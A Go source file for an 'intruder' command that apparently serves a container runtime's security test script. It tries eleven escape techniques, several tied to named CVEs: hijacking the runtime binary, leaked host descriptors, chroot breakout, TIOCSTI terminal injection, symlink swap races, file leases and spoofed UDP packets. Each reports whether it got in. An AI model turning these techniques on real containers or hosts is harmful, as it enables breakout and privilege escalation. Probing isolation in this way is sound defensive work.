// Command intruder tries one way out of a container, for scripts/evidence/attacks.sh. It prints
// "GOT IN" and what it got, or why not.
//
//	intruder NAME [ARG...]
package main

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attacks by name. Each returns what it got hold of, or the error that stopped it.
var attacks = map[string]func(args []string) (string, error){
	"overwrite-exe": overwriteExe,
	"leaked-fd":     leakedDescriptor,
	"escape-chroot": escapeChroot,
	"peek":          peek,
	"push-input":    pushInput,
	"inheritable":   inheritable,
	"become-root":   becomeRoot,
	"swap":          swap,
	"lease":         lease,
	"forge":         forge,
	"hear":          hear,
}

func main() {
	if len(os.Args) < 2 || attacks[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "usage: intruder NAME [ARG...]")
		os.Exit(2)
	}
	got, err := attacks[os.Args[1]](os.Args[2:])
	if err != nil {
		fmt.Println("stopped:", err)
		os.Exit(1)
	}
	fmt.Println("GOT IN:", got)
}

// overwriteExe waits for a process of the runtime to show up in here and opens its program for
// writing (CVE-2019-5736). It does not write, and a program that runs at the moment (ETXTBSY)
// counts: the attacker would hold it open and wait.
func overwriteExe(args []string) (string, error) {
	if err := os.WriteFile(args[0], nil, 0o644); err != nil { // tells that we are watching
		return "", err
	}

	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		return "", err
	}

	stopped := fmt.Errorf("no process of the runtime was seen")
	held := map[string]*os.File{}

	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); {
		programs, err := filepath.Glob("/proc/[0-9]*/exe")
		if err != nil {
			return "", err
		}

		for _, exe := range programs {
			file, err := os.Open(exe)
			if err != nil {
				continue
			}
			info, err := file.Stat()
			if err != nil || os.SameFile(info, own) || info.Size() < 4<<20 { // busybox and we are smaller
				file.Close()
				continue
			}
			link, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", file.Fd()))
			if held[link] != nil {
				file.Close()
				continue
			}

			held[link] = file
		}

		for link, file := range held {
			writable, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", file.Fd()), os.O_WRONLY, 0)
			if err == nil {
				return "the runtime's program " + link + ", open for writing", writable.Close()
			}
			if errors.Is(err, syscall.ETXTBSY) && !protected(file) {
				return "the runtime's program " + link + ", writable as soon as it does not run", nil
			}
			stopped = fmt.Errorf("%s: %w", link, err)
		}
	}

	return "", stopped
}

// protected tells whether a file cannot be written to whenever: its mount is read-only, or it is
// sealed (memfd_create(2)).
func protected(file *os.File) bool {
	var fs unix.Statfs_t
	if err := unix.Fstatfs(int(file.Fd()), &fs); err == nil && fs.Flags&unix.ST_RDONLY != 0 {
		return true
	}
	seals, err := unix.FcntlInt(file.Fd(), unix.F_GET_SEALS, 0)
	return err == nil && seals&unix.F_SEAL_WRITE != 0
}

// leakedDescriptor looks for a descriptor or a working directory of the host (CVE-2024-21626).
func leakedDescriptor([]string) (string, error) {
	descriptors, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return "", err
	}
	for _, d := range descriptors {
		for _, dir := range []string{"/proc/self/fd/" + d.Name(), "/proc/self/cwd"} {
			text, err := os.ReadFile(dir + "/secret-of-the-host")
			if err == nil {
				return strings.TrimSpace(string(text)), nil
			}
		}
	}
	return "", fmt.Errorf("nothing leads outside")
}

// escapeChroot walks up from a directory that is above its own root.
func escapeChroot(args []string) (string, error) {
	if err := os.MkdirAll("/tmp/hole", 0o700); err != nil {
		return "", err
	}
	if err := syscall.Chroot("/tmp/hole"); err != nil {
		return "", err
	}

	for i := 0; i < 100; i++ {
		if err := syscall.Chdir(".."); err != nil {
			return "", err
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return "", err
	}

	text, err := os.ReadFile(args[0])
	return string(bytes.TrimSpace(text)), err
}

// peek looks into every process that comes into the container, and through its descriptors
// (CVE-2016-9962).
func peek(args []string) (string, error) {
	if err := os.WriteFile(args[0], nil, 0o644); err != nil { // tells that we are watching
		return "", err
	}
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); {
		secrets, err := filepath.Glob("/proc/[0-9]*/fd/*/secret-of-the-host")
		if err != nil {
			return "", err
		}
		for _, secret := range secrets {
			if text, err := os.ReadFile(secret); err == nil {
				return secret + ": " + strings.TrimSpace(string(text)), nil
			}
		}
	}
	return "", fmt.Errorf("no descriptor led outside")
}

// pushInput types into the terminal that it has, as if a person did: whoever reads next executes
// it (TIOCSTI, CVE-2016-2568).
func pushInput([]string) (string, error) {
	for _, key := range []byte("GOT IN\n") {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&key))); errno != 0 {
			return "", errno
		}
	}
	return "a line into this terminal", nil
}

// inheritable finds capabilities that a program with file capabilities would get from an ordinary
// user (CVE-2022-24769).
func inheritable([]string) (string, error) {
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&header, &data[0]); err != nil {
		return "", err
	}
	if data[0].Inheritable|data[1].Inheritable == 0 {
		return "", fmt.Errorf("the inheritable set is empty")
	}
	return fmt.Sprintf("inheritable capabilities %x%08x", data[1].Inheritable, data[0].Inheritable), nil
}

// becomeRoot is a set-user-id program of root.
func becomeRoot([]string) (string, error) {
	if os.Geteuid() != 0 {
		return "", fmt.Errorf("still user %d", os.Geteuid())
	}
	return "root", nil
}

// swap exchanges a directory and a symbolic link, as fast as it can, until it is killed
// (CVE-2018-15664, CVE-2021-30465).
func swap(args []string) (string, error) {
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
			return "", err
		}
	}
}

// lease holds a lease on a file (fcntl(2), F_SETLEASE): who opens it to write waits until the lease
// is given back, 45 seconds at most.
func lease(args []string) (string, error) {
	file, err := os.OpenFile(args[0], os.O_RDWR, 0)
	if err != nil {
		return "", err
	}
	if _, err := unix.FcntlInt(file.Fd(), unix.F_SETLEASE, unix.F_WRLCK); err != nil {
		return "", err
	}
	if err := os.WriteFile(args[1], nil, 0o644); err != nil { // tells that it is there
		return "", err
	}
	signal.Ignore(unix.SIGIO)
	time.Sleep(time.Minute)
	return "a lease", nil
}

// forge sends a UDP packet with a source address that is not its own, to port args[2] of args[1].
func forge(args []string) (string, error) {
	from, to := net.ParseIP(args[0]).To4(), net.ParseIP(args[1]).To4()
	port, err := strconv.Atoi(args[2])
	if err != nil {
		return "", err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return "", err
	}

	text := []byte("FORGED\n")
	packet := make([]byte, 28, 28+len(text)) // ip(7): the kernel fills in lengths and checksum
	packet[0], packet[8], packet[9] = 0x45, 64, unix.IPPROTO_UDP
	copy(packet[12:], from)
	copy(packet[16:], to)
	packet[21] = 99
	packet[22], packet[23] = byte(port>>8), byte(port)
	packet[25] = byte(8 + len(text))
	packet = append(packet, text...)

	address := &unix.SockaddrInet4{}
	copy(address.Addr[:], to)
	return "a packet from " + args[0], unix.Sendto(fd, packet, 0, address)
}

// hear is the host's end of forge: it waits four seconds for a packet on a port.
func hear(args []string) (string, error) {
	conn, err := net.ListenPacket("udp4", ":"+args[0])
	if err != nil {
		return "", err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(4 * time.Second)); err != nil {
		return "", err
	}
	buffer := make([]byte, 100)
	n, from, err := conn.ReadFrom(buffer)
	return fmt.Sprintf("%s from %v", bytes.TrimSpace(buffer[:n]), from), err
}
